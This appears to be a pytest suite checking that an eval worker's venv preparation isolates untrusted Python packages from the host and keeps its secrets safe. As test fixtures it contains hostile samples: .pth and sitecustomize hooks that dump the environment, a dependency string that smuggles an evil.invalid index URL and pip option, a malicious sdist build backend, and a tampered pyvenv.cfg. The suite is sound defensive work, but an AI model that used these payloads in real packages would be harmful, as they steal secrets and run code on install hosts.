"""Venv preparation treats the environment as hostile: nothing it installs runs on the
worker host, the build's subprocesses see none of the worker's secrets, index tokens
never reach a command line, a wheel cannot redirect what the sandbox binds, and one
owner's environment can never be served another owner's venv.

Hand-made wheels on local PEP 503 indexes (one of them behind HTTP basic auth, like the
hub's private index): no network, a few seconds per prepare.
"""

from __future__ import annotations

import base64
import hashlib
import io
import shutil
import subprocess
import tarfile
import threading
import uuid
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker

from hub.kit.settings import Settings
from hub.kit.storage import Storage
from tests.support import procs
from tests.workers.evals.conftest import write_simple_index
from tests.workers.evals.test_venvs import make_wheel
from workers.evals import venvs
from workers.evals.spec import EvalRunSpec
from workers.evals.venvs import PASSED_ENV, VenvCache, VenvPrepareError, build_env
from workers.sandbox import BubblewrapBackend, SandboxSpec, probe_host
from workers.sandbox.base import SandboxSpecError
from workers.sandbox.bubblewrap import argv_for, interpreter_prefix

VERIFIERS_V0 = {"verifiers/__init__.py": "__version__ = '0.1.99'\n"}
# A v1 stand-in whose chat-program header also tries to smuggle a URL and a pip option
# onto the host's `pip download` command line.
VERIFIERS_V1 = {
    "verifiers/__init__.py": "__version__ = '0.4.99'\n",
    "verifiers/v1/__init__.py": "",
    "verifiers/v1/harnesses/__init__.py": "",
    "verifiers/v1/harnesses/utils/__init__.py": "",
    "verifiers/v1/harnesses/utils/launch.py":
        "CHAT = '# dependencies = [\"plain-lib\", \"evil @ https://evil.invalid/e.whl\", "
        "\"--index-url=https://evil.invalid/simple\"]'\n",
}


def hostile_files(dist: str, marker: Path) -> dict[str, str]:
    """An environment module plus a `.pth` and a `sitecustomize` that, at the start of any
    interpreter whose site-packages hold them, write `marker` (with the environment they
    saw: a host run would leak the worker's secrets into it)."""
    payload = (f"import os; open({str(marker)!r}, 'a').write(repr(dict(os.environ)))")
    return {
        f"{dist}.py": "def load_environment():\n    return 42\n",
        f"zz_{dist}_hook.pth": payload + "\n",
        "sitecustomize.py": payload.replace("; ", "\n") + "\n",
    }


def sha256_of(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@dataclass
class AuthIndex:
    """A PEP 503 index behind HTTP basic auth (`__token__:<secret>`), which scans every
    process's command line for the secret on each request it serves."""

    root: Path
    secret: str
    port: int = 0
    authorized: int = 0
    refused: int = 0
    argv_leaks: list[str] = field(default_factory=list)

    def url(self, with_token: bool = True) -> str:
        auth = f"__token__:{self.secret}@" if with_token else ""
        return f"http://{auth}127.0.0.1:{self.port}/simple/"

    def scan_cmdlines(self) -> None:
        for _, cmdline in procs.cmdlines():
            if self.secret.encode() in cmdline:
                self.argv_leaks.append(cmdline.replace(b"\0", b" ").decode(errors="replace"))


def _serve(index: AuthIndex) -> type[BaseHTTPRequestHandler]:
    expected = "Basic " + base64.b64encode(f"__token__:{index.secret}".encode()).decode()

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, *args: Any) -> None:
            pass

        def do_HEAD(self) -> None:
            self.do_GET(body=False)

        def do_GET(self, body: bool = True) -> None:
            index.scan_cmdlines()
            if self.headers.get("Authorization") != expected:
                index.refused += 1
                self.send_response(401)
                self.send_header("WWW-Authenticate", 'Basic realm="index"')
                self.send_header("Content-Length", "0")
                self.end_headers()
                return
            index.authorized += 1
            path = (index.root / urlsplit(self.path).path.lstrip("/")).resolve()
            if path.is_dir():
                path = path / "index.html"
            if not path.is_relative_to(index.root) or not path.is_file():
                self.send_response(404)
                self.send_header("Content-Length", "0")
                self.end_headers()
                return
            data = path.read_bytes()
            self.send_response(200)
            self.send_header("Content-Type", "text/html" if path.suffix == ".html"
                             else "application/octet-stream")
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            if body:
                self.wfile.write(data)

    return Handler


@pytest.fixture
def auth_index(tmp_path: Path) -> Iterator[AuthIndex]:
    index = AuthIndex(root=(tmp_path / "auth-index").resolve(),
                      secret=f"evtok_{uuid.uuid4().hex}")
    index.root.mkdir()
    server = ThreadingHTTPServer(("127.0.0.1", 0), _serve(index))
    server.daemon_threads = True
    index.port = int(server.server_address[1])
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield index
    server.shutdown()
    server.server_close()


@dataclass
class Recorded:
    argv: list[str]
    env: dict[str, str]


@pytest.fixture
def recorded(monkeypatch: pytest.MonkeyPatch) -> list[Recorded]:
    """Every host subprocess the build starts (argv and its whole environment), with
    worker secrets planted in this process's environment."""
    monkeypatch.setenv("HUB_SECRET_KEY", "hub-secret-key-value")
    monkeypatch.setenv("HUB_DATABASE_URL", "postgresql://hub:db-password@db/hub")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "aws-secret-value")
    monkeypatch.setenv("UV_FIND_LINKS", "/nonexistent/worker-links")
    calls: list[Recorded] = []
    real = subprocess.run

    def spy(argv: list[str], *args: Any, **kwargs: Any) -> Any:
        calls.append(Recorded([str(a) for a in argv], dict(kwargs.get("env") or {})))
        return real(argv, *args, **kwargs)

    monkeypatch.setattr(subprocess, "run", spy)  # the module venvs.py calls through
    return calls


def assert_clean_subprocesses(calls: list[Recorded], cache: VenvCache,
                              secrets: tuple[str, ...] = ()) -> None:
    assert calls, "the build ran no subprocess?"
    for call in calls:
        assert call.env, f"{call.argv[:3]} inherited the worker's whole environment"
        leaked = [k for k in call.env if k.startswith(("HUB_", "AWS_"))
                  or k in ("DATABASE_URL", "UV_FIND_LINKS", "PIP_FIND_LINKS")]
        assert not leaked, (call.argv[:3], leaked)
        for value in call.env.values():
            assert "hub-secret-key-value" not in value and "db-password" not in value
            assert "aws-secret-value" not in value
        for secret in secrets:
            assert not any(secret in a for a in call.argv), call.argv
        # Nothing the build installed is ever executed on the host.
        assert not Path(call.argv[0]).absolute().is_relative_to(cache.root), call.argv


def run_in_sandbox(prepared: venvs.PreparedVenv, code: str, tmp_path: Path) -> str:
    out = tmp_path / "sandbox-out"
    out.mkdir(exist_ok=True)
    result = BubblewrapBackend(probe_host()).run(SandboxSpec(
        argv=[str(prepared.python), "-c", code], venv=prepared.venv, output_dir=out,
        ro_binds=prepared.sandbox_binds(), timeout_s=60), tmp_path / "sandbox.log")
    assert result.ok, (tmp_path / "sandbox.log").read_text()
    return (out / "r").read_text()


def spec_for(name: str, index_url: str, wheel: Path | None, **kw: Any) -> EvalRunSpec:
    fields: dict[str, Any] = {
        "dist_name": name, "version": "1.0", "runtime": "v0", "content_hash": "c" * 64,
        "index_url": index_url, "extra_index_url": index_url, "model": "m",
        "environment": f"alice/{name}", "wheel_sha256": sha256_of(wheel) if wheel else ""}
    fields.update(kw)
    return EvalRunSpec(**fields)


# -- 1. nothing installed runs on the host ---------------------------------------------


def test_pth_and_sitecustomize_never_run_on_the_host(tmp_path: Path,
                                                     recorded: list[Recorded]) -> None:
    if shutil.which("bwrap") is None:
        pytest.fail("bubblewrap is not installed: run `apt-get install -y bubblewrap`")
    marker = tmp_path / "host-marker"
    wheels = tmp_path / "wheels"
    wheels.mkdir()
    env_wheel = make_wheel(wheels, "evil-env", "1.0", hostile_files("evil_env", marker),
                           ("verifiers==0.1.99",))
    url = write_simple_index(tmp_path / "simple", {
        "verifiers": [make_wheel(wheels, "verifiers", "0.1.99", VERIFIERS_V0)],
        "evil-env": [env_wheel]})
    cache = VenvCache(tmp_path / "cache")
    prepared = cache.prepare(spec_for("evil-env", url, env_wheel), tmp_path / "prep.log")

    assert not marker.exists(), f"environment code ran on the host: {marker.read_text()}"
    site = next((prepared.venv / "lib").glob("python*/site-packages"))
    assert (site / "zz_evil_env_hook.pth").exists() and (site / "sitecustomize.py").exists()
    assert_clean_subprocesses(recorded, cache)
    # Bytecode exists, for the venv's own Python (compiled by its base interpreter).
    tag = sys_cache_tag(cache.python)
    assert (site / "__pycache__" / f"evil_env.{tag}.pyc").exists()
    # The eval still works: in the sandbox the hooks run (they may write only inside it).
    assert run_in_sandbox(prepared, "import evil_env; "
                          "open('/out/r', 'w').write(str(evil_env.load_environment()))",
                          tmp_path) == "42"
    assert not marker.exists()


def sys_cache_tag(python: str) -> str:
    """The cache tag of the interpreter the cache builds with (asked in isolated mode,
    without site: the worker's own trusted base interpreter)."""
    return subprocess.run([python, "-I", "-S", "-c", "import sys; print(sys.implementation"
                           ".cache_tag)"], capture_output=True, text=True,
                          check=True).stdout.strip()


def test_v1_build_with_an_authenticated_index(tmp_path: Path, recorded: list[Recorded],
                                              auth_index: AuthIndex) -> None:
    """The v1 path (uv into the venv, the wheelhouse download by the worker's pip) from an
    index that requires the token: both tools get it, from their environment only."""
    marker = tmp_path / "host-marker"
    wheels = tmp_path / "wheels"
    wheels.mkdir()
    env_wheel = make_wheel(wheels, "evil-v1", "1.0", hostile_files("evil_v1", marker),
                           ("verifiers==0.4.99",))
    write_simple_index(auth_index.root / "simple", {
        "verifiers": [make_wheel(wheels, "verifiers", "0.4.99", VERIFIERS_V1)],
        "evil-v1": [env_wheel],
        "plain-lib": [make_wheel(wheels, "plain-lib", "1.0", {"plain_lib.py": "X = 1\n"})],
        "uv": [make_wheel(wheels, "uv", "0.0.1", {"uv_stand_in.py": ""})]})
    cache = VenvCache(tmp_path / "cache")
    log = tmp_path / "prep.log"
    prepared = cache.prepare(spec_for("evil-v1", auth_index.url(), env_wheel, runtime="v1"),
                             log)

    assert not marker.exists(), f"environment code ran on the host: {marker.read_text()}"
    assert prepared.runtime == "v1" and prepared.verifiers_version == "0.4.99"
    assert sorted(p.name for p in prepared.wheelhouse.iterdir()) == [
        "plain_lib-1.0-py3-none-any.whl", "uv-0.0.1-py3-none-any.whl"]
    assert auth_index.authorized > 0
    # The token was on no process's command line while the index served it ...
    assert auth_index.argv_leaks == []
    # ... not on ours, not in the log; uv and pip had it in their environment only.
    assert_clean_subprocesses(recorded, cache, secrets=(auth_index.secret,))
    got_it = [c.argv[:4] for c in recorded
              if any(auth_index.secret in v for v in c.env.values())]
    assert len(got_it) == 2, got_it  # uv pip install, pip download
    assert auth_index.secret not in log.read_text()


def test_the_build_environment_is_an_allowlist(tmp_path: Path) -> None:
    env = build_env(tmp_path, environ={
        "PATH": "/usr/bin", "HOME": "/root", "HUB_SECRET_KEY": "s", "HUB_DATABASE_URL": "d",
        "AWS_ACCESS_KEY_ID": "a", "AWS_SECRET_ACCESS_KEY": "b", "DATABASE_URL": "x",
        "HTTPS_PROXY": "http://proxy:3128", "SSL_CERT_FILE": "/etc/ssl/c.pem",
        "UV_INDEX_URL": "https://worker-mirror", "PIP_FIND_LINKS": "/opt/wheels",
        "PYTHONPATH": "/evil", "UV_CACHE_DIR": "/var/cache/uv"},
        UV_INDEX_URL="https://pypi.org/simple")
    assert env["HOME"] == str(tmp_path) and env["PIP_CONFIG_FILE"] == "/dev/null"
    assert env["HTTPS_PROXY"] == "http://proxy:3128" and env["SSL_CERT_FILE"]
    assert env["UV_CACHE_DIR"] == "/var/cache/uv"  # warm caches survive the fake HOME
    assert env["PIP_CACHE_DIR"] == "/root/.cache/pip"
    assert env["UV_INDEX_URL"] == "https://pypi.org/simple"  # ours, not the worker's
    for gone in ("HUB_SECRET_KEY", "HUB_DATABASE_URL", "AWS_ACCESS_KEY_ID",
                 "AWS_SECRET_ACCESS_KEY", "DATABASE_URL", "PIP_FIND_LINKS", "PYTHONPATH"):
        assert gone not in env
    allowed = set(PASSED_ENV) | {"HOME", "XDG_CONFIG_HOME", "XDG_CACHE_HOME"}
    assert {k for k in env if not k.startswith(("UV_", "PIP_"))} <= allowed


def test_sdists_are_never_built_on_the_host(tmp_path: Path) -> None:
    marker = tmp_path / "backend-ran"
    wheels = tmp_path / "wheels"
    wheels.mkdir()
    env_wheel = make_wheel(wheels, "needs-sdist", "1.0", {"needs_sdist.py": ""},
                           ("verifiers==0.1.99", "sdonly"))
    url = write_simple_index(tmp_path / "simple", {
        "verifiers": [make_wheel(wheels, "verifiers", "0.1.99", VERIFIERS_V0)],
        "needs-sdist": [env_wheel]})
    # `sdonly` exists only as an sdist whose in-tree build backend writes the marker.
    backend = f"open({str(marker)!r}, 'w').write('built')\n"
    pyproject = ('[build-system]\nrequires = []\nbuild-backend = "backend"\n'
                 'backend-path = ["."]\n[project]\nname = "sdonly"\nversion = "1.0"\n')
    project = tmp_path / "simple" / "sdonly"
    project.mkdir()
    with tarfile.open(project / "sdonly-1.0.tar.gz", "w:gz") as tar:
        for name, text in (("pyproject.toml", pyproject), ("backend.py", backend),
                           ("PKG-INFO", "Metadata-Version: 2.1\nName: sdonly\nVersion: 1.0\n")):
            info = tarfile.TarInfo(f"sdonly-1.0/{name}")
            info.size = len(text.encode())
            tar.addfile(info, io.BytesIO(text.encode()))
    (project / "index.html").write_text('<a href="sdonly-1.0.tar.gz">sdonly-1.0.tar.gz</a>')

    cache = VenvCache(tmp_path / "cache")
    with pytest.raises(VenvPrepareError) as err:
        cache.prepare(spec_for("needs-sdist", url, env_wheel))
    assert err.value.code == "sdist_not_allowed" and not err.value.transient
    assert "sdonly" in err.value.message
    assert not marker.exists()
    assert list((tmp_path / "cache" / "entries").iterdir()) == []


# -- pyvenv.cfg and the interpreter prefix ----------------------------------------------


def test_a_wheel_overwriting_pyvenv_cfg_is_refused(tmp_path: Path) -> None:
    wheels = tmp_path / "wheels"
    wheels.mkdir()
    env_wheel = make_wheel(wheels, "cfg-env", "1.0", {
        "cfg_env.py": "", "cfg_env-1.0.data/data/pyvenv.cfg":
            "home = /bin\ninclude-system-site-packages = true\nversion_info = 3.11.7\n"},
        ("verifiers==0.1.99",))
    url = write_simple_index(tmp_path / "simple", {
        "verifiers": [make_wheel(wheels, "verifiers", "0.1.99", VERIFIERS_V0)],
        "cfg-env": [env_wheel]})
    cache = VenvCache(tmp_path / "cache")
    with pytest.raises(VenvPrepareError) as err:
        cache.prepare(spec_for("cfg-env", url, env_wheel))
    assert err.value.code == "venv_tampered" and "pyvenv.cfg" in err.value.message
    assert not err.value.transient
    assert list((tmp_path / "cache" / "entries").iterdir()) == []
    assert list((tmp_path / "cache" / "tmp").iterdir()) == []


@pytest.mark.parametrize("home", ["/bin", "/", "{home}", "{venv}/bin", "{parent}",
                                  "relative/bin"])
def test_interpreter_prefix_refuses_what_would_expose_the_host(tmp_path: Path,
                                                               home: str) -> None:
    venv = tmp_path / "cache" / "venv"
    (venv / "bin").mkdir(parents=True)
    (venv / "pyvenv.cfg").write_text(
        f"home = {home.format(venv=venv, parent=tmp_path, home=Path.home())}\n")
    with pytest.raises(SandboxSpecError):
        interpreter_prefix(venv)
    out = tmp_path / "out"
    out.mkdir()
    with pytest.raises(SandboxSpecError):
        argv_for(SandboxSpec(argv=["true"], venv=venv, output_dir=out))


def test_interpreter_prefix_accepts_a_real_interpreter(tmp_path: Path) -> None:
    venv = tmp_path / "venv"
    venv.mkdir()
    python = Path(venvs._default_python())
    (venv / "pyvenv.cfg").write_text(f"home = {python.parent}\n")
    assert interpreter_prefix(venv) == python.parent.parent.resolve()


# -- 2. the cache key names what is installed -------------------------------------------


def test_two_owners_with_the_same_declared_hash_get_different_venvs(tmp_path: Path) -> None:
    """mallory/foo declares alice/foo's content hash: alice must not get mallory's venv,
    in either order, and a wheel that is not the one the hub recorded is refused."""
    wheels = tmp_path / "wheels"
    verifiers = make_wheel(wheels_dir(wheels, "v"), "verifiers", "0.1.99", VERIFIERS_V0)
    built: dict[str, tuple[str, Path]] = {}
    for owner in ("mallory", "alice"):
        wheel = make_wheel(wheels_dir(wheels, owner), "foo", "1.0",
                           {"foo.py": f"OWNER = {owner!r}\n"}, ("verifiers==0.1.99",))
        # One package-scoped index per environment, as the hub serves them.
        url = write_simple_index(tmp_path / owner, {"foo": [wheel], "verifiers": [verifiers]})
        built[owner] = (url, wheel)
    cache = VenvCache(tmp_path / "cache")
    declared = "d" * 64
    prepared = {}
    for owner in ("mallory", "alice"):
        url, wheel = built[owner]
        spec = spec_for("foo", url, wheel, content_hash=declared, environment=f"{owner}/foo")
        prepared[owner] = cache.prepare(spec)
    assert prepared["alice"].key != prepared["mallory"].key
    for owner, venv in prepared.items():
        site = next((venv.venv / "lib").glob("python*/site-packages"))
        assert (site / "foo.py").read_text() == f"OWNER = {owner!r}\n"
    # Same owner and hash but other wheel bytes: another entry, never the cached one.
    url, _ = built["alice"]
    other = spec_for("foo", url, built["mallory"][1], content_hash=declared,
                     environment="alice/foo")
    assert cache.key(other) not in (prepared["alice"].key, prepared["mallory"].key)
    # ... and installing it fails: alice's index serves alice's wheel, not those bytes.
    with pytest.raises(VenvPrepareError) as err:
        cache.prepare(other)
    assert err.value.code == "install_failed" and "hash" in err.value.message.lower()
    with pytest.raises(VenvPrepareError) as bad:
        cache.prepare(spec_for("foo", url, None, wheel_sha256="not-a-hash"))
    assert bad.value.code == "invalid_wheel_hash"


def wheels_dir(root: Path, name: str) -> Path:
    path = root / name
    path.mkdir(parents=True, exist_ok=True)
    return path


# -- 3. the private-index token ---------------------------------------------------------


@pytest.fixture
def world(tmp_path: Path, committed_sessions: sessionmaker[Session], settings: Settings,
          storage: Storage) -> Iterator[Any]:
    from tests.jobs.helpers import make_world

    with make_world(tmp_path, committed_sessions, settings, storage) as w:
        yield w


def test_index_token_is_short_lived_and_revoked_by_the_reconciler(world: Any,
                                                                  tmp_path: Path) -> None:
    """What a SIGKILLed worker leaves behind: a running job whose heartbeat stopped, and
    the index token its attempt minted. The reconciler re-queues the job and revokes it."""
    from hub.accounts.models import ApiToken
    from hub.evals.execution import INDEX_TOKEN_GRACE_S, _prepare
    from hub.jobs import service as jobs
    from hub.jobs.settings import JobSettings
    from hub.kit.db import utcnow
    from tests.jobs.helpers import publish_env, start_eval
    from workers.reconciler import reconcile_once

    env = publish_env(world.client, world.account, tmp_path, "secretenv",
                      visibility="private")
    ev = start_eval(world.client, world.account, env, timeout_s=600)
    job_id = uuid.UUID(ev["job"]["id"])
    with world.sessions() as db:
        job = jobs.claim(db, job_id, "doomed-worker")
        assert job is not None
        ctx = _prepare(db, world.settings, JobSettings(), job, 1, tmp_path / "w", frozenset())
        db.commit()
    request = ctx.request
    assert len(request.wheel_sha256) == 64  # the version's wheel, as the hub stored it
    secret = urlsplit(request.index_url).password
    assert secret
    with world.sessions() as db:
        token = db.get(ApiToken, ctx.token_id)
        assert token is not None and token.revoked_at is None and token.expires_at
        lifetime = (token.expires_at - token.created_at).total_seconds()
        assert 600 + INDEX_TOKEN_GRACE_S - 60 <= lifetime <= 600 + INDEX_TOKEN_GRACE_S + 60
    index_page = f"/index/{env}/simple/secretenv/"
    assert world.client.get(index_page, auth=("__token__", secret)).status_code == 200

    # The worker dies without its `finally`; its heartbeat goes stale.
    with world.sessions() as db:
        row = jobs.get_job(db, job_id)
        row.heartbeat_at = utcnow() - timedelta(minutes=10)
        db.commit()
    counts = reconcile_once(world.sessions, JobSettings(stale_after_s=60),
                            lambda *_: None)
    assert counts["requeued"] == 1
    with world.sessions() as db:
        token = db.get(ApiToken, ctx.token_id)
        assert token is not None and token.revoked_at is not None
        still_valid = db.scalars(select(ApiToken).where(
            ApiToken.name == f"eval {job_id}", ApiToken.revoked_at.is_(None))).all()
        assert still_valid == []
    assert world.client.get(index_page, auth=("__token__", secret)).status_code in (401, 404)


def test_replaced_interpreter_links_are_tampering(tmp_path: Path) -> None:
    """uv refuses scripts named python/python3/python3.X today; the check after the install
    does not rely on that."""
    cache = VenvCache(tmp_path / "cache")
    venv = tmp_path / "venv"
    subprocess.run([cache.uv, "venv", "--no-config", "--quiet", "--python", cache.python,
                    str(venv)], check=True, env=build_env(tmp_path))
    created = venvs._Identity.of(venv)
    cache._check_created(created)
    (venv / "bin" / "pythonista").write_text("#!/bin/sh\n")  # a new name: not the venv's
    VenvCache._check_untouched(venv, created)
    (venv / "bin" / "python3").unlink()
    (venv / "bin" / "python3").write_text("#!/bin/sh\necho pwned\n")
    with pytest.raises(VenvPrepareError) as err:
        VenvCache._check_untouched(venv, created)
    assert err.value.code == "venv_tampered" and "python3" in err.value.message
